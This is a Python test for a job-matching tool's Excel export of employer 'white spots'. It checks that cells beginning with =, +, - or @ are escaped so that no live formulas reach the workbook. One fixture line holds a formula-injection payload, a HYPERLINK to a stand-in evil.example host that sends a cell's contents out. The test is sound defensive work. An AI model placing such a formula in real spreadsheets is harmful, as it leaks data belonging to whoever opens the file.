"""The white-spot week list as .xlsx: no live formulas, numbers stay numbers."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from matching.whitespots.export import HEADERS, write_white_spots_xlsx
from matching.whitespots.ranking import OccupationPotential, WhiteSpot, WhiteSpotRanking

ATTACK = '=HYPERLINK("http://evil.example/?leak="&C2,"Klik hier")'


def _spot(name: str, employer_id: str) -> WhiteSpot:
    occupation = OccupationPotential(
        "http://data.europa.eu/esco/occupation/x", "+schoonmaker", 1, 3, 0.2
    )
    return WhiteSpot(
        employer_id, name, "GM0575", "Noordwijk", "Holland Rijnland", "81", "N", -1, 42.5, 3,
        (occupation,), 7, 2, ("-eerste reden", "tweede reden"),
    )  # fmt: skip


def test_week_list_has_no_live_formulas() -> None:
    ranking = WhiteSpotRanking(
        [_spot(ATTACK, "@K1"), _spot("Duin B.V.", "E2")], 2, dt.date.today(), 10
    )
    sheet = load_workbook(io.BytesIO(write_white_spots_xlsx(ranking))).active
    assert sheet is not None
    rows = [
        dict(zip(HEADERS, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    first = rows[0]
    assert (first["Werkgever"], first["Werkgever-id"]) == ("'" + ATTACK, "'@K1")
    assert first["Beroep 1"] == "'+schoonmaker" and first["Redenen"].startswith("'-eerste")
    assert first["Medewerkers"] == -1 and first["Score"] == 42.5
    assert rows[1]["Werkgever"] == "Duin B.V."
    header = [cell.value for cell in sheet[1]]
    assert header[8:10] == ["Beroep 1", "Geschikt 1"]  # as the page: 'schoonmaker · 3 geschikt'
    assert not any("andida" in str(name) for name in header)  # job seekers: werkzoekenden
